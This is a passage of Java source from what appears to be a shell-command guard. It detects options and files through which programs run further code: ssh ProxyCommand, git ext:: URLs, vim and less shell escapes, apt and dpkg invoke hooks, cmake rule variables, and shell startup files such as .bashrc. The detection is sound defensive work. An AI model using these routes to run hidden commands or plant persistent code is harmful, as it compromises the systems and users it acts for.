        return a.stream().anyMatch(v -> Regexes.matches(v, "(?s)-[^-]*TT.*") || Wrappers.longOption(v, "unzip-command"));
      }
      case "ssh-copy-id" -> {
        return sshOptionsRun(c);
      }
      case "scalar" -> {
        // scalar -c KEY=VALUE hands the setting to every git it runs, as git -c does (scalar.c
        // pushes it with git_config_push_parameter): the keys git runs as commands, or one only
        // known when it runs.
        List<Word> w = c.args();
        for (int i = 0; i + 1 < w.size(); i++) {
          if (w.get(i).value().equals("-c") && !w.get(i + 1).literal()) {
            return true;
          }
        }
        return a.stream().anyMatch(GitFiles::gitCommandPair);
      }
      case "ssh", "scp", "sftp", "rsync" -> {
        return !n.equals("rsync") && sshOptionsRun(c) || a.stream().anyMatch(v -> Regexes.matches(v, "(?i)(-o)?\\s*(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand"
            + "|ProxyUseFdpass|Match\\s+exec).*")) || n.equals("rsync") && a.stream().anyMatch(v ->
            Wrappers.longOption(v, "rsh") && v.contains("=") && !Regexes.matches(v, "(?s)--[a-z]*=['\"]?ssh( .*)?")
            || Wrappers.longOption(v, "rsync-path"));
      }
      case "git" -> {
        // Config keys whose value git runs as a command, given as KEY=VALUE (-c, clone's --config,
        // also attached) or written by git config; an ext:: URL (the transport runs its command;
        // a literal one is code whatever allows it); a template directory (its hooks are copied
        // into the new repository and run).
        int at = Wrappers.gitSubcommand(a);
        String sub = at < a.size() ? a.get(at) : "";
        return a.stream().anyMatch(GitFiles::gitCommandPair) || gitConfigWrites(c)
            || a.stream().anyMatch(v -> v.toLowerCase(Locale.ROOT).contains("ext::"))
            || Set.of("clone", "init", "init-db").contains(sub) && a.stream().anyMatch(v -> Wrappers.longOption(v, "template"))
            || a.stream().anyMatch(v -> v.startsWith("--config-env") || v.startsWith("--exec-path="))
            // A subcommand Wrappers.gitCommands reads has its command options judged as commands
            // there (and no --ext-diff); for any other, such an option (by any abbreviation, as
            // parse-options takes them) is code the guard does not read.
            || !Wrappers.gitCommandOptionsRead(a) && a.stream().anyMatch(v -> v.startsWith("--upload-pack")
                || v.startsWith("--receive-pack") || v.startsWith("--exec") || Wrappers.longOption(v, "upload-pack")
                || Wrappers.longOption(v, "receive-pack") || Wrappers.longOption(v, "exec")
                || Wrappers.longOption(v, "ext-diff"))
            || firstOperandIn(c, Set.of("daemon")) || a.contains("--ext-diff")
            || sub.equals("daemon")
            // remote-ext, the ext:: transport's helper, named by hand: git remote-ext REMOTE CMD runs
            // CMD when its input asks to connect, as an ext:: URL does. A subcommand only known when
            // it runs may be it.
            || sub.equals("remote-ext") || gitSubcommandUnknown(c.args());
      }
      case "vim", "vi", "nvim", "view", "ex", "gvim", "editor", "vimdiff", "gvimdiff", "rvim", "rview", "evim", "eview", "gview",
          "vimx", "vim.basic", "vim.tiny", "vim.nox", "vim.gtk", "vim.gtk3", "vim.athena" -> {
        // A +CMD is an Ex command, and Ex reaches the shell in too many spellings to list ({@code
        // exe "\\x21CMD"}, {@code norm}, {@code call system()}, a {@code /pat/} address before a
        // command): only a plain start position or a bare quit/write is harmless; any other +CMD,
        // and every -c/--cmd counts as code: vim takes the rest of a word after the c of a bundle as
        // the command (-esc CMD, -escCMD, '-cexe "\x21CMD"'), so any single-dash word holding a c does.
        return a.stream().anyMatch(v -> Regexes.matches(v, "(?s)(\\+|-c|--cmd).*") && v.contains("!") || Regexes.matches(v, "(?s)\\+.*(py|lua|perl|ruby|sys).*"))
            || a.stream().anyMatch(v -> v.equals("-c") || v.equals("--cmd") || Regexes.matches(v, "(?s)-[^-].*") && v.indexOf('c') > 0)
            || a.stream().anyMatch(v -> v.startsWith("+") && !v.matches(VIM_HARMLESS_START));
      }
      case "less", "more", "man" -> {
        // less '+!cmd<newline>' types its argument as commands: ! and | run shell commands, v an
        // editor. Only a line number, G, F, p, % or a search (no newline: the rest is its pattern)
        // is a plain start position. A lesskey file or text binds keys to such commands.
        // Long options by any abbreviation (less and man's argp take them): --lessk=, --pag=, --ht=.
        // man's -P PAGER and -H[BROWSER] (its value attached) also in a bundle of short options.
        // less takes its long option names in any case (--LESSKEY-SRC=, --Lesskey-Src): compared lowercased.
        boolean commands = !n.equals("man") && a.stream().anyMatch(v -> v.startsWith("+") && lessStartRunsCommands(v)
            || lessLongOption(v, "lesskey-file") || lessLongOption(v, "lesskey-src") || lessLongOption(v, "lesskey-content")
            || v.toLowerCase(Locale.ROOT).startsWith("--lesskey") || n.equals("less") && lessWordReadsKeysOrCommands(v));
        // man's -C FILE (--config-file): its DEFINE lines name the formatter and pager man runs.
        return commands || a.stream().anyMatch(v -> Regexes.matches(v, "(?s)-[^-]*[PHC].*") && n.equals("man") || v.startsWith("--pager")
            || v.startsWith("--html") || Wrappers.longOption(v, "pager") || Wrappers.longOption(v, "html")
            || n.equals("man") && Wrappers.longOption(v, "config-file")) || n.equals("man") && manPromptHoldsLessOptions(a);
      }
      case "chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome", "x-www-browser",
          "gnome-www-browser", "sensible-browser" -> {
        // Chromium (x-www-browser here; sensible-browser runs it) starts the program a switch
        // names, with one dash or two: --renderer-cmd-prefix='bash -c CMD', --utility-cmd-prefix,
        // --gpu-launcher, --browser-subprocess-path; -g/--debug runs it under gdb. An extension is
        // code, and reaches native-messaging hosts.
        return a.stream().anyMatch(v -> Regexes.matches(v, "(?s)--?[^=]*(prefix|launcher|subprocess|gdb|debug|wrapper|extension).*")
            || v.equals("-g"));
      }
      case "gdb" -> {
        return a.stream().anyMatch(v -> Wrappers.gdbCommandOption(v) || v.equals("--batch"));
      }
      case "psql" -> {
        return PsqlClient.runsCommands(c);
      }
      case "sqlite3", "sqlite" -> {
        // Dot commands and SQL functions that run a program, given as arguments (-cmd, the SQL
        // operands): the exec and the typed judgement alike. An SQL operand only known when it runs
        // may be one.
        List<Word> ops = sqliteOperands(c);
        return a.stream().anyMatch(ShellClass::sqliteRunsCommands)
            || ops != null && ops.stream().skip(1).anyMatch(w -> !w.literal() && !w.value().isEmpty()
                && w.value().charAt(0) == Word.UNKNOWN);
      }
      case "find" -> {
        // A word only known when it runs may be -fprint/-fprintf/-fls: the next word names what it
        // writes (a startup file by namedWords), one only known when it runs any file, as tee "$f".
        return a.stream().anyMatch(v -> v.equals("-fprintf") || v.equals("-fprint") || v.equals("-fls"))
            || Wrappers.findMayWrite(c.args()).stream().anyMatch(w -> !w.literal());
      }
      case "sort", "gsort", "split", "gsplit" -> {
        return filterProgramRuns(c);
      }
      case "install", "ginstall" -> {
        return namedProgramRuns(c, "strip-program", STRIPPERS, "s", "st", "str", "stri", "strip");
      }
      case "diff3", "sdiff" -> {
        return namedProgramRuns(c, "diff-program", Set.of("diff", "gdiff"));
      }
      case "wget" -> {
        // wget -e runs a .wgetrc command: use_askpass (any case, '_' and '-' ignored) is the option.
        return namedProgramRuns(c, "use-askpass", Set.of(), "u", "us", "use", "use-")
            || a.stream().anyMatch(v -> Regexes.replaceAll(v, "[-_]", "").toLowerCase(Locale.ROOT).contains("askpass"));
      }
      case "env" -> {
        return false;
      }
      case "cmake", "ccmake" -> {
        return cmakeGivenCommands(c);
      }
      case "apt", "apt-get", "apt-cache", "apt-mark", "apt-config", "apt-cdrom", "apt-ftparchive", "apt-sortpkgs",
          "apt-extracttemplates", "aptitude" -> {
        return aptRunsPrograms(c);
      }
      case "dpkg" -> {
        // dpkg runs --pre-invoke/--post-invoke with sh -c around each action that changes packages
        // or architectures (--add-architecture, --triggers-only too), and --status-logger for its
        // status: exact names (dpkg takes no abbreviation), the value attached by = or the next
        // word. A word only known when it runs may name one.
        return a.stream().anyMatch(v -> Regexes.matches(v, "(?s)--(pre-invoke|post-invoke|status-logger)(=.*)?"))
            || c.args().stream().anyMatch(w -> !w.literal() && w.value().startsWith("-")
                && Regexes.replaceFirst(w.value(), "(?s)=.*", "").indexOf(Word.UNKNOWN) >= 0);
      }
      default -> {
        return false;
      }
    }
  }

  /**
   * apt's settings that name a program it runs or a command it gives {@code sh -c}: the dpkg it
   * asks for the foreign architectures when it starts (also {@code apt-cache}, {@code apt-config
   * dump}), dpkg's options ({@code --pre-invoke=CMD}), the update, install and cli hooks,
   * compressors, solvers, the cdrom mount commands, the proxy detector; the configuration tree it
   * reads ({@code Dir}, {@code Dir::Etc}, {@code RootDir}). {@code Binary::PROG::} scopes a setting
   * to one program. Names case-insensitive, as apt takes them.
   */
  private static final Pattern APT_PROGRAM_SETTING = Pattern.compile("(?i)(binary::[^:]*::)?(dir|dir::bin(::.*)?|dir::etc"
      + "|dir::etc::(main|parts)|rootdir|dpkg::.*|apt::update::.*invoke.*|apt::periodic(::.*)?|apt::compressor::.*"
      + "|apt::key::.*|aptcli::.*|acquire::.*(auto-?detect|::u?mount).*|methods(::.*)?)::?");
  /** dpkg settings apt only passes on as plain data. */
  private static final Pattern APT_DPKG_DATA = Pattern.compile("(?i)dpkg::(progress(-fancy)?(::.*)?|use-pty|lock::timeout"
      + "|no-?triggers|configurepending|triggerspending|apport|stop-on-error|use-apport)");

  /**
   * apt given a setting by {@code -o NAME=VALUE} ({@code -oNAME=VALUE}, {@code --option}) that
   * names a program or a command ({@link #APT_PROGRAM_SETTING}); a name only known when it runs
   * may be one. dpkg's options are judged by value: only the {@code --force-conf…} answers and
   * {@code --force-unsafe-io}, {@code --no-triggers} are data. A solver or planner named with a path.
   * Any other name apt keeps and reads for data (it takes no code from it).
   */
  private static boolean aptRunsPrograms(ShellCommand c) {
    List<Word> a = c.args();
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (v.equals("--")) {
        break;
      }
      Word setting;
      if (v.equals("-o") || v.equals("--option")) {
        if (i + 1 >= a.size()) {
          break;
        }
        setting = a.get(++i);
      } else if (v.startsWith("--option=")) {
        setting = new Word(w.source(), v.substring(9), w.literal());
      } else if (Regexes.matches(v, "(?s)-[^-].*") && v.indexOf('o') > 0 && !Regexes.matches(v.substring(1, v.indexOf('o')), ".*[ctaPpsh].*")) {
        int o = v.indexOf('o');
        setting = o + 1 < v.length() ? new Word(w.source(), v.substring(o + 1), w.literal())
            : i + 1 < a.size() ? a.get(++i) : Word.literal("", "");
      } else {
        if (!w.literal() && v.startsWith("-") && v.indexOf(Word.UNKNOWN) >= 0) {
          return true; // may spell -o NAME=VALUE
        }
        continue;
      }
      String sv = setting.value();
      int eq = sv.indexOf('=');
      String name = (eq < 0 ? sv : sv.substring(0, eq)).strip();
      String value = eq < 0 ? "" : sv.substring(eq + 1);
      if (name.indexOf(Word.UNKNOWN) >= 0 || !setting.literal() && name.isEmpty()) {
        return true;
      }
      String lower = Regexes.replaceFirst(Regexes.replaceFirst(name.toLowerCase(Locale.ROOT), "^binary::[^:]*::", ""), "::$", "");
      if (Regexes.matches(lower, "dpkg::(options|tools::options.*)")) {
        if (!Regexes.matches(value, "--force-conf(old|new|def|miss|ask)|--force-unsafe-io|--no-triggers|")) {
          return true;
        }
        continue;
      }
      if (Regexes.matches(lower, "apt::(solver|planner)")) {
        if (!Regexes.matches(value, "[A-Za-z0-9_.+-]*") || value.startsWith(".")) {
          return true;
        }
        continue;
      }
      if (APT_PROGRAM_SETTING.matcher(name + "::").matches() && !APT_DPKG_DATA.matcher(lower).matches()) {
        return true;
      }
    }
    return false;
  }

  /**
   * The letters of OpenSSH's clients (9.2) whose options take a value: getopt strings of {@code
   * ssh}, {@code scp}, {@code sftp}, and {@code i:o:p:F:} of the ssh-copy-id script, which hands
   * {@code -o} and {@code -F} to the ssh it runs.
   */
  static final Map<String, String> SSH_VALUE_LETTERS = Map.of("ssh", "bceilmopBDEFIJLOQRSwW", "scp", "DFJPSXcilo",
      "sftp", "cDilosSbBFJPRX", "ssh-copy-id", "iopF");

  /**
   * An OpenSSH client's options that have ssh run a command, read as getopt reads them (attached,
   * in a bundle: {@code -4oProxyCommand=…}; ssh also reads options after the destination, up to
   * the remote command): an {@code -o} option ssh runs a command by (also only known when it
   * runs), or a configuration that is no regular file named literally ({@code -F /dev/stdin},
   * {@code <(…)}). A written {@code -F} file is read by {@link
   * WrittenThenRun#readsCommandsTheTextWrites}.
   */
  private static boolean sshOptionsRun(ShellCommand c) {
    for (SshOption o : sshOptions(c)) {
      Word val = o.value();
      if (o.letter() == '?'
          || o.letter() == 'o' && (!val.literal() || val.value().indexOf(Word.UNKNOWN) >= 0
              || SSH_COMMAND_OPTION.matcher(val.value()).matches())
          || o.letter() == 'F' && !Interpreters.regularPath(val) && !underHome(val)) {
        return true;
      }
    }
    return false;
  }

  private static final Pattern SSH_COMMAND_OPTION = Pattern.compile(
      "(?is)\\s*(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|ProxyUseFdpass|Match|Include).*");

  /** One option of an OpenSSH client with its value; letter {@code ?}: a word only known when it runs, which may be any. */
  record SshOption(char letter, Word value) {}

  /**
   * The value-taking options of an OpenSSH client ({@link #SSH_VALUE_LETTERS}) as its getopt reads
   * them: attached, in a bundle, or the next word; ssh goes on reading options after the
   * destination, up to the remote command; {@code --} ends them (ssh-copy-id's getopts skips it).
   */
  static List<SshOption> sshOptions(ShellCommand c) {
    String letters = SSH_VALUE_LETTERS.get(c.name());
    List<SshOption> out = new ArrayList<>();
    List<Word> a = c.args();
    int operands = 0;
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (!w.literal() && (v.isEmpty() || v.charAt(0) == Word.UNKNOWN || v.startsWith("-"))) {
        out.add(new SshOption('?', w));
        continue;
      }
      if (v.equals("--")) {
        if (!c.name().equals("ssh-copy-id")) {
          break;
        }
        continue;
      }
      if (!v.startsWith("-") || v.equals("-")) {
        if (c.name().equals("ssh") && ++operands > 1) {
          break; // the remote command
        }
        continue;
      }
      for (int j = 1; j < v.length(); j++) {
        char ch = v.charAt(j);
        if (letters.indexOf(ch) >= 0) {
          out.add(new SshOption(ch, j + 1 < v.length() ? new Word(w.source(), v.substring(j + 1), w.literal())
              : i + 1 < a.size() ? a.get(++i) : Word.literal("", "")));
          break;
        }
      }
    }
    return out;
  }

  /**
   * {@code ~/…} of plain name characters: a file under the home directory, not a descriptor (a text
   * that sets {@code HOME} is refused on its own).
   */
  private static boolean underHome(Word w) {
    return Regexes.matches(w.source(), "~/[\\w./-]*");
  }

  /**
   * The {@code cmake -E} commands cmake documents ({@code cmake -E --help}; {@code env}, {@code
   * time}, {@code chdir} are read as wrappers). The others are the generators' helpers: {@code
   * __run_co_compile} runs its {@code --iwyu=}/{@code --tidy=}/{@code --launcher=}… lists and the
   * command after {@code --}, {@code cmake_llvm_rc} its preprocessor, {@code cmake_link_script}
   * each line of a file.
   */
  private static final Set<String> CMAKE_E_COMMANDS = Set.of("capabilities", "cat", "chdir", "compare_files", "copy",
      "copy_directory", "copy_directory_if_different", "copy_directory_if_newer", "copy_if_different", "copy_if_newer",
      "echo", "echo_append", "env", "environment", "make_directory", "md5sum", "sha1sum", "sha224sum", "sha256sum",
      "sha384sum", "sha512sum", "remove", "remove_directory", "rename", "rm", "sleep", "tar", "time", "touch",
      "touch_nocreate", "create_symlink", "create_hardlink", "true", "false");

  /**
   * cmake given commands on its command line: an undocumented {@code -E} command (one only known
   * when it runs counts), or a {@code -D NAME[:TYPE]=VALUE} setting a program or rule variable
   * ({@link #cmakeProgramCode}); a {@code -D} whose name is only known when it runs counts.
   */
  private static boolean cmakeGivenCommands(ShellCommand c) {
    List<Word> a = c.args();
    if (a.size() >= 2 && a.get(0).value().equals("-E")) {
      return !a.get(1).literal() || !CMAKE_E_COMMANDS.contains(a.get(1).value());
    }
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (!v.startsWith("-D")) {
        if (Regexes.matches(v, "-[SBCUGTAPLW]") || v.equals("-E")) {
          i++; // an option's value: not a -D
        }
        continue;
      }
      Word d = v.equals("-D") ? (i + 1 < a.size() ? a.get(++i) : Word.literal("", "")) : new Word(w.source(), v.substring(2), w.literal());
      String dv = d.value();
      int eq = dv.indexOf('=');
      String name = Regexes.replaceFirst((eq < 0 ? dv : dv.substring(0, eq)), ":[^:]*$", "");
      if (name.indexOf(Word.UNKNOWN) >= 0 || eq >= 0 && cmakeProgramCode(name,
          new Word(d.source(), dv.substring(eq + 1), d.literal() || dv.substring(eq + 1).indexOf(Word.UNKNOWN) < 0))) {
        return true;
      }
    }
    return false;
  }

  /**
   * A CMake variable naming a program the build runs (from {@code -D} or, for the launchers,
   * the environment: {@code CMAKE_<LANG>_COMPILER_LAUNCHER}, {@code CMAKE_<LANG>_LINKER_LAUNCHER}),
   * as a {@code ;}-list: program and arguments, no shell. Allowed: a launcher that is a compiler
   * cache, a checker ({@code CMAKE_<LANG>_CLANG_TIDY}, {@code _CPPCHECK}, {@code _CPPLINT}, {@code
   * _INCLUDE_WHAT_YOU_USE}) by its name, a compiler or binary tool of {@link #BUILD_TOOL}, with
   * options that load nothing. A rule variable ({@code CMAKE_<LANG>_COMPILE_OBJECT}, {@code
   * _LINK_EXECUTABLE}, {@code _CREATE_*}, {@code _ARCHIVE_*}), an emulator or a rule launcher
   * is a command line: counts.
   */
  static boolean cmakeProgramCode(String name, Word value) {
    if (!name.startsWith("CMAKE_") || value.value().isEmpty()) {
      return false;
    }
    boolean launcher = Regexes.matches(name, "CMAKE_[A-Za-z0-9_]+_(COMPILER|LINKER)_LAUNCHER");
    boolean checker = Regexes.matches(name, "CMAKE_[A-Za-z0-9_]*(CLANG_TIDY|CPPCHECK|CPPLINT|INCLUDE_WHAT_YOU_USE|LINK_WHAT_YOU_USE_CHECK)");
    boolean program = Regexes.matches(name, "CMAKE_([A-Za-z0-9]+_)?(COMPILER|LINKER|AR|RANLIB|NM|OBJCOPY|OBJDUMP|STRIP|ADDR2LINE"
        + "|READELF|DLLTOOL|MT|MAKE_PROGRAM|COMPILER_AR|COMPILER_RANLIB|COMPILER_CLANG_SCAN_DEPS|RC_COMPILER)");
    boolean rule = Regexes.matches(name, "CMAKE_[A-Za-z0-9_]*(_COMPILE_OBJECT|_LINK_EXECUTABLE|_CREATE_[A-Z_]+|_ARCHIVE_[A-Z]+"
        + "|EMULATOR|RULE_LAUNCH_[A-Z]+|_LINK_[A-Z_]*RULE[A-Z_]*|_COMPILER_LAUNCHER_[A-Z]+)");
    if (!launcher && !checker && !program && !rule) {
      return false;
    }
    String v = value.value().strip();
    if (rule || !value.literal() || !Regexes.matches(v, "[A-Za-z0-9_./,:=+@%;\\-]*")) {
      return true;
    }
    List<String> parts = new ArrayList<>(List.of(v.split(";")));
    parts.removeIf(String::isEmpty);
    if (parts.isEmpty()) {
      return false;
    }
    String tool = Regexes.replaceFirst(parts.get(0), ".*/", "");
    boolean known = launcher ? Regexes.matches(tool, "ccache|sccache|distcc|icecc|buildcache")
        : checker ? Regexes.matches(tool, "(clang-tidy|cppcheck|cpplint|include-what-you-use|iwyu|ldd)(-[0-9.]+)?")
        : BUILD_TOOL.matcher(tool).matches() || Regexes.matches(tool, "(llvm-)?(nm|objcopy|objdump|strip|addr2line|readelf"
            + "|dlltool|mt|make|gmake|ninja|ranlib|ar|clang-scan-deps|windres|rc)(-[0-9.]+)?");
    return !known || parts.stream().skip(1).anyMatch(p -> !p.startsWith("-")
        || Regexes.matches(p.toLowerCase(Locale.ROOT), "(?s).*(load|plugin|addon|exec|wrapper|rule|script).*") || p.startsWith("-B"))
        || program && parts.size() > 1;
  }

  /** Compressors sort may pipe its temporary files through: each only packs and unpacks data. */
  private static final Set<String> SORT_COMPRESSORS = Set.of("gzip", "pigz", "bzip2", "pbzip2", "lbzip2", "xz", "pixz",
      "lzma", "zstd", "zstdmt", "lz4", "lzop", "lzip", "plzip", "brotli", "compress");

  /** Programs install's {@code --strip-program} may name: each only strips the installed file. */
  private static final Set<String> STRIPPERS = Set.of("strip", "llvm-strip", "eu-strip", "sstrip");

  /**
   * An option naming a program the command runs on its files: install's {@code
   * --strip-program=PROG} (PROG runs on the installed copy: {@code sh} runs it as a script), diff3's
   * and sdiff's {@code --diff-program=PROG}, wget's {@code --use-askpass=PROG} (run for a password
   * prompt). By any abbreviation getopt_long takes, the value attached or the next word; only a
   * program of {@code known} by literal name (also a cross tool's {@code ARCH-strip}) is read, any
   * other fails closed, as does a {@code --} word only known when it runs that may spell the option
   * (any such word where an option may be: {@link Wrappers#OPTIONS_THAT_RUN}).
   */
  private static boolean namedProgramRuns(ShellCommand c, String option, Set<String> known, String... shadows) {
    List<Word> a = c.args();
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (v.equals("--")) {
        return false;
      }
      if (!Wrappers.longOption(v, option, shadows)) {
        continue;
      }
      if (!w.literal()) {
        return true;
      }
      int eq = v.indexOf('=');
      Word value = eq >= 0 ? new Word(v, v.substring(eq + 1), w.literal()) : i + 1 < a.size() ? a.get(i + 1) : null;
      if (value == null || !value.literal() || !Regexes.matches(value.value(), "[A-Za-z0-9_./+-]+")) {
        return true;
      }
      String prog = value.value().substring(value.value().lastIndexOf('/') + 1);
      if (!known.contains(prog) && !(known == STRIPPERS && Regexes.matches(prog, "[a-z0-9_.+-]+-strip"))) {
        return true;
      }
    }
    return false;
  }

  /**
   * sort's {@code --compress-program=PROG} pipes its temporary files through PROG (a shell runs
   * the sorted lines), split's {@code --filter=CMD} runs CMD with {@code sh -c} for every chunk:
   * by any abbreviation getopt_long takes ({@code --co}, {@code --f}), the value attached or the
   * next word. Only a known compressor by literal name is read; a {@code --} word only known when
   * it runs that may spell the option fails closed (any such word where an option may be: {@link
   * Wrappers#OPTIONS_THAT_RUN}).
   */
  private static boolean filterProgramRuns(ShellCommand c) {
    boolean sort = c.name().endsWith("sort");
    String option = sort ? "compress-program" : "filter";
    List<Word> a = c.args();
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (v.equals("--")) {
        return false;
      }
      if (!w.literal() && Wrappers.longOption(v, option)) {
        return true;
      }
      if (!Wrappers.longOption(v, option) || sort && Regexes.matches(v, "--c(=.*)?")) {
        continue; // sort's --c is ambiguous (--check)
      }
      if (!sort) {
        return true; // CMD is shell text
      }
      int eq = v.indexOf('=');
      Word value = eq >= 0 ? new Word(v, v.substring(eq + 1), w.literal()) : i + 1 < a.size() ? a.get(i + 1) : null;
      if (value == null || !value.literal()) {
        return true;
      }
      String prog = value.value().substring(value.value().lastIndexOf('/') + 1);
      if (!SORT_COMPRESSORS.contains(prog) || !Regexes.matches(value.value(), "[A-Za-z0-9_./-]+")) {
        return true;
      }
    }
    return false;
  }

  /**
   * Startup files that hold commands a program runs, found in the home directory (or, for gdb's
   * {@code .gdbinit}, also the working directory): gdb's {@code .gdbinit}, {@code .gdbearlyinit}
   * and XDG {@code gdb/gdbinit}, {@code gdb/gdbearlyinit} ({@code shell CMD}; system-wide {@code
   * /etc/gdb/gdbinit}, {@code gdbinit.d}, and the Python and auto-load scripts of its data and debug
   * directories); the docker CLI's {@code .docker/cli-plugins/*} and {@code .docker/config.json}
   * (its {@code cliPluginsExtraDirs}): docker runs every plugin for {@code docker help}; less's lesskey
   * source {@code .lesskey} and XDG {@code lesskey}, and the binary {@code .less} and XDG {@code
   * less} (an {@code #env} section sets {@code LESSOPEN=|CMD}, run by {@code less FILE} and by
   * systemd's pager); vim's {@code .vimrc}, {@code _vimrc}, {@code .gvimrc}, {@code .exrc}, {@code
   * .vim/vimrc}, XDG {@code vim/vimrc} and neovim's {@code nvim/init.vim}, {@code nvim/init.lua}
   * ({@code !CMD} when {@code vim FILE} starts); psql's {@code .psqlrc} and {@code .psqlrc-VERSION} ({@code \\! CMD},
   * read with {@code -c} too); kubectl's {@code .kube/config} (an exec credential plugin); curl's {@code .curlrc}
   * (in {@code ~}, {@code $CURL_HOME}, {@code $XDG_CONFIG_HOME}: its {@code output =} writes any file); man-db's
   * {@code .manpath} (its {@code DEFINE pager CMD} is the pager man runs); ssh's {@code .ssh/config}
   * ({@code ProxyCommand}, {@code LocalCommand}: ssh, git over ssh, scp and rsync read it); the sqlite3
   * shell's {@code .sqliterc} ({@code .system CMD} at its start); {@code .mailcap} (the viewer commands
   * {@code see}, {@code run-mailcap} and Python's mailcap run); GnuPG's {@code .gnupg/*.conf}
   * ({@code gpg.conf}, {@code gpg-agent.conf}, {@code dirmngr.conf}, {@code scdaemon.conf}, {@code
   * common.conf}: {@code agent-program}, {@code pinentry-program}, … start programs); dpkg's {@code .dpkg.cfg},
   * {@code dpkg.cfg} and {@code dpkg.cfg.d/*} ({@code pre-invoke=CMD}); Debian lesspipe's {@code
   * .lessfilter} and XDG {@code lessfilter}; wget's {@code .wgetrc} and {@code /etc/wgetrc} ({@code
   * use_askpass}); git-shell's {@code git-shell-commands/*}; tmux's {@code .tmux.conf} and XDG {@code
   * tmux/tmux.conf} ({@code run-shell}); the shells' own startup files ({@code .bashrc}, {@code
   * .bash_profile}, {@code .profile}, {@code .zshrc}, … and fish's XDG {@code fish/config.fish}),
   * which the next login or interactive shell (sshd's {@code bash -c} too) runs. Written on the line, as git's
   * configuration is, the next run of the program runs what the text wrote. Compared by the path's end (the session starts in the home
   * directory); an XDG name after a part only known when it runs counts.
   */
  private static final Pattern STARTUP_FILE = Pattern.compile(
      "(?s)(.*/)?(\\.gdbinit|\\.gdbearlyinit|\\.lesskey|\\.less|[._]vimrc|\\.gvimrc|\\.exrc|\\.vim/.*|\\.selected_editor"
          + "|\\.local/.*|(site|dist)-packages/.*\\.pth|(user|site)customize\\.py|\\.mavenrc"
          + "|\\.psqlrc(-[^/]*)?|\\.kube/config|\\.curlrc|\\.manpath|\\.ssh/config|\\.sqliterc|\\.mailcap"
          // dpkg's options for every run (pre-invoke=CMD): ~/.dpkg.cfg, /etc/dpkg/dpkg.cfg, dpkg.cfg.d/*.
          + "|\\.dpkg\\.cfg|dpkg\\.cfg|dpkg\\.cfg\\.d/.*"
          // GnuPG's home: its *.conf name programs to start (gpg.conf's agent-program, gpg-agent.conf's pinentry-program).
          + "|\\.gnupg/[^/]*\\.conf"
          // The docker CLI runs every cli-plugins/docker-* (for its metadata) on docker help, --help
          // and an unknown subcommand, and config.json's cliPluginsExtraDirs adds directories to scan.
          + "|\\.docker/cli-plugins/.*|\\.docker/config\\.json"
          // Debian's lesspipe/lessfile run ~/.lessfilter (or XDG lessfilter) on every file less opens;
          // wget runs ~/.wgetrc's use_askpass; git-shell runs ~/git-shell-commands/CMD for -c CMD
          // (and its no-interactive-login); tmux runs ~/.tmux.conf's run-shell/if-shell at its start.
          + "|\\.lessfilter|\\.wgetrc|git-shell-commands/.*|\\.tmux\\.conf"
          // Mercurial's ~/.hgrc and a repository's .hg/hgrc ([hooks], [alias] with !CMD, [ui] editor);
          // npm's user and project .npmrc (script-shell, git, and the other programs it names).
          + "|\\.hgrc|\\.hg/hgrc|\\.npmrc"
          // Shell startup files, by their name wherever the path starts (a session starts in the
          // home directory, so .bashrc, ./.profile and ../u/.bashrc are as much the home's as
          // ~/.bashrc): bash's login files (.bash_profile, .bash_login, .profile, also sh's and
          // dash's), .bashrc (interactive shells, and sshd's bash -c on Debian), .bash_logout (a
          // login shell's end), .bash_aliases (sourced by Debian's default .bashrc), .inputrc
          // (readline's init file: key bindings that type lines, $include); zsh's .zshenv (every
          // zsh), .zprofile, .zshrc, .zlogin, .zlogout; ksh93's and mksh's $ENV defaults .kshrc and
          // .mkshrc; tcsh's and csh's .tcshrc, .cshrc, .login, .logout; pam_env's .pam_environment
          // (user_readenv: variables such as BASH_ENV or LD_PRELOAD for the next login).
          + "|\\.bashrc|\\.bash_profile|\\.bash_login|\\.profile|\\.bash_logout|\\.bash_aliases|\\.inputrc"
          + "|\\.zshenv|\\.zprofile|\\.zshrc|\\.zlogin|\\.zlogout|\\.kshrc|\\.mkshrc"
          + "|\\.tcshrc|\\.cshrc|\\.login|\\.logout|\\.pam_environment)"
          + "|/etc/wgetrc"
          + "|/usr(/local)?/(lib|libexec)/docker/cli-plugins/.*"
          // gdb's system-wide init (--with-system-gdbinit, -dir), its data directory (the Python
          // modules gdb imports at start, auto-load scripts) and debug directory (auto-loaded *-gdb.py).
          + "|/etc/gdb/gdbinit(\\.d/.*)?|/usr(/local)?/share/gdb/(python|auto-load)/.*|/usr(/local)?/lib/debug/.*-gdb\\.(gdb|py|scm)"
          // mvn sources these as shell code; login and interactive shells the profiles, for every user.
          + "|/etc/mavenrc|/usr/local/etc/mavenrc|/etc/profile(\\.d/.*)?|/etc/bash\\.bashrc|/etc/bashrc"
          + "|(.*/)?(\\.config|.*" + Word.UNKNOWN + ")/(gdb/gdbinit|gdb/gdbearlyinit|lesskey|less|vim/g?vimrc|nvim/init\\.(vim|lua)|lessfilter|tmux/tmux\\.conf"
          // fish runs config.fish and conf.d/*.fish at every start.
          + "|fish/config\\.fish|fish/conf\\.d/.*)");
  private static final Set<String> INTERACTIVE_EDITORS = Set.of("vi", "vim", "nvim", "gvim", "view", "vimdiff", "nano",
      "pico", "emacs", "mg", "micro", "joe", "jed");

  /**
   * A dotfile or dot-directory in a home directory: where programs find their configuration, and
   * many run what it holds at their start (Python's user site {@code ~/.local/lib/python3.*}
   * {@code /site-packages/*.pth}, vim's {@code ~/.vim/plugin}, sensible-editor's {@code
   * ~/.selected_editor}, {@code ~/.config/**}, {@code ~/.psqlrc}, {@code ~/.sqliterc}, {@code
   * ~/.hgrc}, {@code ~/.aws/config}, …): each pass found another, so all of them count. ssh's
   * own key and host files are not run.
   */
  private static final Pattern HOME_DOTFILE = Pattern.compile(
      "(?s)(~[^/]*|/root|/home/[^/]+)/(?!\\.ssh/(known_hosts[^/]*|id_[^/]*)$)(\\.(?!\\.?(/|$))|" + Word.UNKNOWN + ").*"
